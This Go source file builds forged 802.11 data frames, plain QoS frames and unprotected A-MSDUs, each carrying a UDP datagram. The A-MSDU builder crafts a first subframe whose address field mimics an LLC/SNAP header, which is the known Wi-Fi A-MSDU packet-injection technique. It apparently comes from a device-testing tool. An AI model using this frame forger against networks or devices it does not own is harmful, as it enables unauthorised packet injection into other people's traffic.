package main

import (
	"encoding/binary"
	"fmt"
)

// forger builds data frames from the station (ta) to the BSSID, ToDS,
// carrying UDP datagrams from src to dst:port for the host at da.
type forger struct {
	ta, bssid, da [6]byte
	src, dst      [4]byte
	port          int
	seq           uint16
}

var llcSNAPIPv4 = []byte{0xaa, 0xaa, 0x03, 0, 0, 0, 0x08, 0x00}

// header starts a ToDS data frame: QoS data (TID 0, with the A-MSDU
// Present bit if amsdu) when qos, plain data otherwise.
func (f *forger) header(qos, amsdu bool) []byte {
	var b []byte
	fc0 := byte(0x08)
	if qos {
		fc0 = 0x88
	}
	b = append(b, fc0, 0x01, 0, 0) // FC: ToDS; duration
	b = append(b, f.bssid[:]...)
	b = append(b, f.ta[:]...)
	b = append(b, f.da[:]...)
	f.seq = (f.seq + 1) & 0xfff
	b = binary.LittleEndian.AppendUint16(b, f.seq<<4)
	if qos {
		qc := byte(0)
		if amsdu {
			qc = 0x80
		}
		b = append(b, qc, 0)
	}
	return b
}

// plain is unprotected data frame i: QoS data on even i, plain data on odd.
func (f *forger) plain(i int) []byte {
	b := f.header(i%2 == 0, false)
	b = append(b, llcSNAPIPv4...)
	return f.appendUDP(b, fmt.Sprintf("plain %d", i))
}

// amsdu is unprotected A-MSDU i: a first subframe whose DA is an RFC 1042
// header and whose SA and length are what a plain MSDU's EtherType and IPv4
// header make of them, then a well-formed subframe from the station to the
// host with a UDP datagram "amsdu i".
func (f *forger) amsdu(i int) []byte {
	b := f.header(true, true)
	start := len(b)
	b = append(b, llcSNAPIPv4[:6]...)        // DA: AA AA 03 00 00 00
	b = append(b, 0x08, 0x00, 0x45, 0, 0, 0) // SA: EtherType 0800, IPv4 version/IHL, ...
	b = binary.BigEndian.AppendUint16(b, 8)
	b = append(b, llcSNAPIPv4...)
	for (len(b)-start)%4 != 0 {
		b = append(b, 0)
	}
	sub := len(b)
	b = append(b, f.da[:]...)
	b = append(b, f.ta[:]...)
	b = append(b, 0, 0) // length, below
	b = append(b, llcSNAPIPv4...)
	b = f.appendUDP(b, fmt.Sprintf("amsdu %d", i))
	binary.BigEndian.PutUint16(b[sub+12:], uint16(len(b)-sub-14))
	return b
}

// appendUDP appends an IPv4 UDP datagram carrying payload.
func (f *forger) appendUDP(b []byte, payload string) []byte {
	ip := len(b)
	total := 20 + 8 + len(payload)
	b = append(b, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(total))
	b = binary.BigEndian.AppendUint16(b, f.seq) // identification
	b = append(b, 0x40, 0, 64, 17, 0, 0)        // DF, TTL 64, UDP, checksum below
	b = append(b, f.src[:]...)
	b = append(b, f.dst[:]...)
	binary.BigEndian.PutUint16(b[ip+10:], checksum(0, b[ip:ip+20]))
	udp := len(b)
	b = binary.BigEndian.AppendUint16(b, 40000)
	b = binary.BigEndian.AppendUint16(b, uint16(f.port))
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
	b = append(b, 0, 0)
	b = append(b, payload...)
	pseudo := append(append(append([]byte{}, f.src[:]...), f.dst[:]...), 0, 17, 0, 0)
	binary.BigEndian.PutUint16(pseudo[10:], uint16(8+len(payload)))
	c := checksum(sum(0, pseudo), b[udp:])
	if c == 0 {
		c = 0xffff
	}
	binary.BigEndian.PutUint16(b[udp+6:], c)
	return b
}

func sum(s uint32, b []byte) uint32 {
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	return s
}

// checksum is the Internet checksum of b, starting from the partial sum s.
func checksum(s uint32, b []byte) uint16 {
	s = sum(s, b)
	for s > 0xffff {
		s = s&0xffff + s>>16
	}
	return ^uint16(s)
}

// isQoS reports whether fr (an 802.11 frame, no radiotap) is QoS data
// with its QoS Control field at offset 24 (three addresses).
func isQoS(fr []byte) bool {
	return len(fr) >= 26 && fr[0]&0x0c == 0x08 && fr[0]&0x80 != 0 && fr[1]&0x03 != 0x03
}
